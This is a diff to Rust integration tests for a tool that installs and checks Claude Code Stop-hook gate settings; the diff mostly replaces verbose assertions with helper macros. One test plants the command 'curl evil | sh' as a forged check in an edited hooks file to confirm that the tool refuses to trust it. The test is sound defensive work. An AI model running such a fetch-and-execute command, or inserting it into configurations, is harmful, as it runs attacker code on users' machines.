@@ -22,11 +22,7 @@ fn install_keeps_what_it_wrote_for_this_machine_out_of_git_and_the_subject() {
     std::fs::create_dir_all(settings.parent().unwrap()).unwrap();
     std::fs::write(&settings, "{\n  \"permissions\": {}\n}\n").unwrap();
     let out = merge("install", &settings, false, &[]);
-    assert!(
-        out.status.success(),
-        "{}",
-        String::from_utf8_lossy(&out.stderr)
-    );
+    assert_success(&out);
     let status = git(
         dir.path(),
         &["status", "--porcelain", "--untracked-files=all"],
@@ -43,20 +39,12 @@ fn install_keeps_what_it_wrote_for_this_machine_out_of_git_and_the_subject() {
     }
     // A marker for this tree still holds after Claude Code edits the personal settings.
     let ran = marker_writer_in(dir.path(), &["run", "--check", "tests", "--", "true"]);
-    assert!(
-        ran.status.success(),
-        "{}",
-        String::from_utf8_lossy(&ran.stderr)
-    );
+    assert_success(&ran);
     let mut value = json_of(&settings);
     value["permissions"]["allow"] = json!(["Bash(cargo test:*)"]);
     std::fs::write(&settings, serde_json::to_vec_pretty(&value).unwrap()).unwrap();
     let verified = marker_writer_in(dir.path(), &["verify", "--check", "tests"]);
-    assert!(
-        verified.status.success(),
-        "{}",
-        String::from_utf8_lossy(&verified.stderr)
-    );
+    assert_success(&verified);
     // Shared settings are for committing: not excluded.
     let shared = dir.path().join(".claude/settings.json");
     assert!(merge("uninstall", &settings, false, &[]).status.success());
@@ -92,16 +80,8 @@ fn a_reinstall_keeps_the_gate_flags_it_is_not_told_to_change_and_says_what_chang
     assert!(stop_command(&path).contains("--run 'cargo test'"));
     // Updating the binaries: the check stays, and nothing is said to change.
     let out = merge("install", &path, false, &[]);
-    assert!(
-        stop_command(&path).contains("--run 'cargo test'"),
-        "{}",
-        stop_command(&path)
-    );
-    assert!(
-        stdout_of(&out).contains("already installed"),
-        "{}",
-        stdout_of(&out)
-    );
+    assert_contains!(stop_command(&path), "--run 'cargo test'");
+    assert_contains!(stdout_of(&out), "already installed");
     // The record gone (or forged): the file still decides.
     std::fs::remove_file(install_record_of(dir.path())).unwrap();
     let out = merge(
@@ -110,28 +90,20 @@ fn a_reinstall_keeps_the_gate_flags_it_is_not_told_to_change_and_says_what_chang
         false,
         &["--require-marker", "tests=cargo test"],
     );
-    assert!(
-        out.status.success(),
-        "{}",
-        String::from_utf8_lossy(&out.stderr)
-    );
+    assert_success(&out);
     let command = stop_command(&path);
-    assert!(
-        command.contains("--run 'cargo test'")
-            && command.contains("--require-marker 'tests=cargo test'"),
-        "{command}"
-    );
+    assert_contains!(command, "--run 'cargo test'");
+    assert_contains!(command, "--require-marker 'tests=cargo test'");
     let out = merge("install", &path, false, &["--run", "make check"]);
     let said = stdout_of(&out);
-    assert!(
-        said.contains("  ~ --run 'cargo test' -> 'make check'"),
-        "the change is told: {said}"
+    assert_contains!(
+        said,
+        "  ~ --run 'cargo test' -> 'make check'",
+        "the change is told"
     );
     // A group whose flags changed was not added (issue 31): it is told as the change it is.
-    assert!(
-        said.contains(": changed the Stop hook's stop-gate flags") && !said.contains("added"),
-        "{said}"
-    );
+    assert_contains!(said, ": changed the Stop hook's stop-gate flags");
+    assert_lacks!(said, "added");
     let out = merge(
         "install",
         &path,
@@ -139,16 +111,11 @@ fn a_reinstall_keeps_the_gate_flags_it_is_not_told_to_change_and_says_what_chang
         &["--no-run", "--no-require-marker", "tests"],
     );
     let said = stdout_of(&out);
-    assert!(
-        said.contains("  - --run 'make check'")
-            && said.contains("  - --require-marker 'tests=cargo test'"),
-        "{said}"
-    );
+    assert_contains!(said, "  - --run 'make check'");
+    assert_contains!(said, "  - --require-marker 'tests=cargo test'");
     let command = stop_command(&path);
-    assert!(
-        !command.contains("--run") && !command.contains("--require-marker"),
-        "{command}"
-    );
+    assert_lacks!(command, "--run");
+    assert_lacks!(command, "--require-marker");
     assert_eq!(
         json_of(&path)["hooks"]["Stop"]
             .as_array()
@@ -185,11 +152,7 @@ fn install_takes_the_whole_gate_configuration_and_refuses_what_the_gate_would() 
         "ci",
     ];
     let out = merge("install", &path, false, &args);
-    assert!(
-        out.status.success(),
-        "{}",
-        String::from_utf8_lossy(&out.stderr)
-    );
+    assert_success(&out);
     let command = stop_command(&path);
     for flag in [
         "--timeout 300",
@@ -202,9 +165,9 @@ fn install_takes_the_whole_gate_configuration_and_refuses_what_the_gate_would() 
         assert!(command.contains(flag), "{flag}: {command}");
     }
     let report = stdout_of(&merge("check", &path, false, &[]));
-    assert!(
-        report.contains("[ok] Stop: stop-gate's check gets 300 s and the gate answers within 700 s, under the handler's timeout of 730 s"),
-        "{report}"
+    assert_contains!(
+        report,
+        "[ok] Stop: stop-gate's check gets 300 s and the gate answers within 700 s, under the handler's timeout of 730 s"
     );
     let before = std::fs::read(&path).unwrap();
     for (args, said) in [
@@ -256,26 +219,16 @@ fn a_reinstall_tells_what_it_keeps_from_an_edited_file_and_never_trusts_it_for_c
     .unwrap();
     let edited = std::fs::read(&hooks).unwrap();
     let out = merge("install", &hooks, true, &trust);
-    assert_eq!(out.status.code(), Some(2), "{}", stdout_of(&out));
+    assert_exit(&out, 2);
     let stderr = String::from_utf8_lossy(&out.stderr);
-    assert!(
-        stderr.contains("--run 'curl evil | sh'") && stderr.contains("give them again"),
-        "{stderr}"
-    );
+    assert_contains!(stderr, "--run 'curl evil | sh'");
+    assert_contains!(stderr, "give them again");
     assert_eq!(std::fs::read(&hooks).unwrap(), edited, "nothing changed");
     assert_eq!(std::fs::read(&config).unwrap(), trusted, "nothing trusted");
     // Given again, the user's own check replaces it, and is what is trusted.
     let out = merge("install", &hooks, true, &args);
-    assert!(
-        out.status.success(),
-        "{}",
-        String::from_utf8_lossy(&out.stderr)
-    );
-    assert!(
-        stdout_of(&out).contains("~ --run 'curl evil | sh' -> 'cargo test'"),
-        "{}",
-        stdout_of(&out)
-    );
+    assert_success(&out);
+    assert_contains!(stdout_of(&out), "~ --run 'curl evil | sh' -> 'cargo test'");
     assert!(!std::fs::read_to_string(&hooks).unwrap().contains("evil"));
     // Without --trust (Claude Code), what is kept from an edited file is said.
     let (_dir, path, _) = project_with("claude-user-hooks.json");
@@ -290,9 +243,9 @@ fn a_reinstall_tells_what_it_keeps_from_an_edited_file_and_never_trusts_it_for_c
     let out = merge("install", &path, false, &["--max-blocks", "4"]);
     let said = stdout_of(&out);
     assert!(said.contains("+ --max-blocks 4"), "{said}");
-    assert!(
-        said.contains("kept from the file, which is not as vigil wrote it: --run 'cargo test'"),
-        "{said}"
+    assert_contains!(
+        said,
+        "kept from the file, which is not as vigil wrote it: --run 'cargo test'"
     );
 }
 
@@ -304,7 +257,7 @@ fn install_refuses_a_stop_handler_that_carries_check_config() {
     let dir = Project::git();
     let settings = dir.path().join(".claude/settings.local.json");
     let out = merge("install", &settings, false, &["--max-blocks", "3"]);
-    assert!(out.status.success(), "{}", said(&out));
+    assert_success(&out);
     let text = std::fs::read_to_string(&settings).unwrap();
     let text = text.replace(
         "stop-gate --max-blocks",
@@ -312,7 +265,7 @@ fn install_refuses_a_stop_handler_that_carries_check_config() {
     );
     std::fs::write(&settings, &text).unwrap();
     let out = merge("install", &settings, false, &["--contract", "default"]);
-    assert_eq!(out.status.code(), Some(2), "{}", said(&out));
+    assert_exit(&out, 2);
     assert!(said(&out).contains("--check-config"), "{}", said(&out));
     assert_eq!(
         std::fs::read_to_string(&settings).unwrap(),
